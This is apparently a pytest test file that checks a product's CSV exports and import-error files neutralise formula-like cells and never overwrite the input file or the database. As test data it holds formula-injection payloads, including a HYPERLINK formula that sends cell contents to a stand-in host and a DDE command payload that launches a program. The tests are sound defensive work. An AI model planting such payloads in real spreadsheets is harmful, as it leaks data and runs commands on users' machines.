"""Every CSV the product writes opens safely in Excel or WPS: a cell from outside that begins like a
formula is neutralised with a leading ', while numbers the product writes stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.models import Customer, CustomerAggregate
from bot.tagging.rules import TagRules
from bot.tagging.system import resolve, tag_customer
from segments.export import export_customers, spreadsheet_safe

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE_NAMES)
def test_text_that_starts_like_a_formula_is_prefixed(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["张三", "a=b", "", 0, -5, 12, None])
def test_other_cells_and_numbers_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell


def test_export_neutralises_names_and_tags_but_keeps_negative_amounts_numbers(app, db):
    with db.begin() as session:
        for i, name in enumerate(HOSTILE_NAMES):
            session.add(Customer(external_userid=f"wmHostile{i}", name=name, owner_userid="-staff"))
        refunded = Customer(external_userid="wmRefunded", name="退款客户")
        session.add(refunded)
        session.flush()
        session.add(CustomerAggregate(customer_id=refunded.id, order_count=1, paid_amount_fen=-1234,
                                      last_order_at=datetime(2026, 1, 1, tzinfo=UTC)))
        tag = resolve(session, TagRules.from_settings(app.extensions["scrm.settings"]), "=cmd()")
        tag_customer(session, refunded.id, tag, source="staff", push=False)
    out = io.StringIO()
    with db.sessions() as session:
        assert export_customers(session, out, tz=ZoneInfo("America/New_York")) == len(HOSTILE_NAMES) + 1
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    names = [r["name"] for r in rows if r["external_userid"].startswith("wmHostile")]
    assert names == ["'" + n for n in HOSTILE_NAMES]
    assert {r["owner_userid"] for r in rows if r["external_userid"].startswith("wmHostile")} == {"'-staff"}
    refunded_row = next(r for r in rows if r["external_userid"] == "wmRefunded")
    assert refunded_row["total_amount"] == "-12.34"  # the product's own number: not neutralised
    assert refunded_row["last_order_at"] == "2025-12-31T19:00:00-05:00"  # local; a negative offset is not a formula
    assert refunded_row["tags"].startswith("'") and "=cmd()" in refunded_row["tags"]
    assert next(r for r in rows if r["name"] == "'-2+3")["total_amount"] == "0.00"


def test_import_error_file_is_real_csv_with_neutralised_cells(cli_env, tmp_path):
    orders = tmp_path / "orders.csv"
    orders.write_text("order_id,external_userid,amount,paid_at,status\n"
                      'o1,wmA,"1,=HYPERLINK(""http://evil.example"")",2025-01-01T10:00:00+08:00,paid\n'
                      "o2,wmA,10,2025-01-01T10:00:00+08:00,=1+1\n", encoding="utf-8")
    errors = tmp_path / "errors.csv"
    result = CliRunner(env={"SCRM_CONFIG": None, **cli_env}).invoke(
        main, ["import-orders", str(orders), "--no-progress", "--errors-out", str(errors)])
    assert result.exit_code in (0, 1), result.output
    header, *rows = list(csv.reader(io.StringIO(errors.read_text(encoding="utf-8"), newline="")))
    assert header == ["line", "reason"]
    assert [r[0] for r in rows] == ["2", "3"] and all(len(r) == 2 for r in rows)  # one reason per line, whole
    for _, reason in rows:
        assert not reason.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_no_csv_is_written_over_the_database_or_the_input_or_into_a_missing_folder(cli_env, database_url, tmp_path):
    from bot.core.db import sqlite_file

    runner = CliRunner(env={"SCRM_CONFIG": None, **cli_env})
    orders = tmp_path / "orders.csv"
    content = "order_id,external_userid,amount,paid_at\no1,wmA,x,2025-01-01T10:00:00+08:00\n"
    orders.write_text(content, encoding="utf-8")
    onto_input = runner.invoke(main, ["import-orders", str(orders), "--no-progress", "--errors-out", str(orders)])
    assert onto_input.exit_code == 1 and "is the input file" in onto_input.output
    assert orders.read_text(encoding="utf-8") == content
    missing = tmp_path / "no-such-folder" / "x.csv"
    for args in (["export", "customers", "--out", str(missing)],
                 ["import-orders", str(orders), "--no-progress", "--errors-out", str(missing)]):
        result = runner.invoke(main, args)
        assert result.exit_code == 1 and "no folder" in result.output and "Traceback" not in result.output, args
    database = sqlite_file(database_url)
    if database is not None:  # SQLite: the file a careless --out would empty
        runner.invoke(main, ["init"])
        before = database.read_bytes()
        result = runner.invoke(main, ["export", "customers", "--out", str(database)])
        assert result.exit_code == 1 and "is the database itself" in result.output
        assert database.read_bytes() == before
